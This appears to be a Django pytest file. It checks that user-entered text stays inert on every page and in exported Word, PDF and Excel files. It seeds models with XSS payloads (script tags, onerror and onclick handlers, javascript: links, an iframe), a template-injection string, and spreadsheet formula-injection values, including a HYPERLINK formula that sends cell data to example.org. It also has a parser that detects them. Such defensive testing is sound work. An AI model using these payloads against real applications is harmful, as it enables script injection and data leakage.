"""Markup, Markdown tricks and formulas typed as narrative stay text: on every page, and in every file."""

import io
import zipfile
from datetime import date
from html.parser import HTMLParser

import pytest
from django.db.models import CharField, Model, TextField
from django.test import Client
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from conditions.models import Condition, ConditionResponse, SummaryAnswers
from safetyvalve.core.models import Authority, User
from tests import factories
from tests.addresses import address, our_routes, parts
from tests.conditions.answering import complete, confirm, send
from tests.factories import World
from tests.furniture import furnish
from workstreams.models import Milestone, ProgressUpdate, Risk, RiskUpdate, Workstream

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clock"), pytest.mark.slow]

MARKUP = (
    "<script>alert(1)</script>\n\n- <img src=x onerror=alert(2)>\n- [a link](javascript:alert(3))\n"
    "- ![picture](https://example.org/x.png)\n- </textarea></style></svg><iframe src=//example.org>\n\n"
    "{{ 71234|add:5 }} {% load static %} **<b onclick=alert(4)>bold</b>** \"' onmouseover=alert(5) x=' & &amp; &#x3c;"
)
FORMULA = '=HYPERLINK("https://example.org?"&A1,"Click")'
FORMULAS = ("=1+1", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", FORMULA)


@pytest.fixture
def world() -> World:
    """A complete draft in which everything that can be typed is hostile."""
    world = factories.make_world()
    complete(world)
    world.period.dsg_positions.filter(financial_year="2024-25").delete()
    furnish(world)
    confirm(world)
    world.period.dsg_positions.filter(financial_year="2024-25").update(movement_reason=MARKUP)
    risk, stream = Risk.objects.get(), Workstream.objects.get()
    RiskUpdate.objects.create(
        submission=world.submission, risk=risk, rag=factories.level(world.agreement, "on_target"), revision=1
    )
    ProgressUpdate.objects.create(workstream=stream, period=world.period, text=MARKUP, revision=1)
    texts = ("narrative", "mitigation", "recovery", "preamble", "summary", "progress", "wording", "description")
    reasons = ("on_track_at_end_reason", "on_track_this_year_reason", "adviser_area", "adviser_benefit", "slip_reason")
    for model in (ConditionResponse, SummaryAnswers, RiskUpdate, Risk, Workstream, Milestone, Condition):
        _spoil(model, (*texts, *reasons), MARKUP)
    short = "<script>alert(6)</script> & \"'"
    for model in (Condition, Workstream, Milestone):
        _spoil(model, ("title", "name"), short)
    User.objects.update(display_name=short)
    Authority.objects.update(name=short)
    world.agreement.title = short
    world.agreement.save()
    Milestone.objects.update(forecast_on=date(2024, 9, 30))
    return world


def _spoil(model: type[Model], names: tuple[str, ...], text: str) -> None:
    fields = {field.name for field in model._meta.get_fields() if isinstance(field, CharField | TextField)}
    model._default_manager.update(**{name: text for name in names if name in fields})


class Elements(HTMLParser):
    """What a page would run, load or lead to."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.found += [f"{tag} {name}" for name in given if name.startswith("on")]
        self.found += [f"{tag} {value}" for value in given.values() if "javascript:" in (value or "").lower()]
        for name in ("src", "href", "action"):
            if "example.org" in (given.get(name) or ""):
                self.found.append(f"{tag} leads to {given[name]}")
        is_data = given.get("type") == "application/json"
        if tag in ("iframe", "object", "embed") or (tag == "script" and not given.get("src") and not is_data):
            self.found.append(tag)


def hostile_elements(html: str) -> list[str]:
    elements = Elements()
    elements.feed(html)
    return elements.found


def everybody(world: World) -> Client:
    """Somebody who holds every role."""
    for role in set(world.people) - {"director"}:
        factories.give_role(world.people["director"], role, world.authority)
    client = Client()
    client.force_login(world.people["director"])
    return client


@pytest.mark.parametrize("status", ["draft", "awaiting_sign_off"])
def test_markup_stays_text_on_every_page(world: World, status: str) -> None:
    examples = parts(world)
    client = everybody(world)
    if status != "draft":
        send(world)
    shown = 0
    for route in our_routes():
        here = {"period_slug": world.period.slug} if "period_slug" in route.parts else {}
        page = client.get(address(route, examples, **here))
        if page.status_code == 200 and page["Content-Type"].startswith("text/html"):
            html = page.content.decode()
            assert hostile_elements(html) == [], route.name
            assert "71239" not in html, route.name
            shown += "&lt;script&gt;alert(" in html
    assert shown > 20


def test_the_reader_of_pages_sees_what_it_looks_for() -> None:
    assert hostile_elements(MARKUP) == ["script", "img onerror", "iframe leads to //example.org", "iframe", "b onclick"]


def draft(world: World, kind: str) -> bytes:
    manager = Client()
    manager.force_login(world.people["programme_manager"])
    page = manager.get(reverse("conditions:return-file", args=[*world.period.address, 1, kind]))
    assert page.status_code == 200
    return bytes(page.content)


def test_markup_stays_text_in_word(world: World) -> None:
    file = draft(world, "docx")
    cells = [cell.text for table in Document(io.BytesIO(file)).tables for row in table.rows for cell in row.cells]
    assert any("<script>alert(1)</script>" in text for text in cells)
    with zipfile.ZipFile(io.BytesIO(file)) as package:
        links = [name for name in package.namelist() if name.endswith(".rels")]
        assert not any(b"example.org" in package.read(name) or b"javascript" in package.read(name) for name in links)


def test_the_printed_return_is_made_of_hostile_text_too(world: World) -> None:
    assert draft(world, "pdf").startswith(b"%PDF-")


def formulas(file: bytes) -> list[str]:
    """What a spreadsheet would calculate."""
    book = load_workbook(io.BytesIO(file))
    return [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize("typed", FORMULAS)
def test_nothing_typed_becomes_a_formula_in_excel(world: World, typed: str) -> None:
    ConditionResponse.objects.update(narrative=typed, mitigation=typed)
    SummaryAnswers.objects.update(preamble=typed, summary=typed)
    Risk.objects.update(wording=typed)
    Condition.objects.update(title=typed, wording=typed)
    file = draft(world, "xlsx")
    assert [each for each in formulas(file) if typed.strip() in each] == []
    texts = [cell.value for sheet in load_workbook(io.BytesIO(file)) for row in sheet.iter_rows() for cell in row]
    assert any(typed.strip() in str(text) for text in texts), "it was left out"
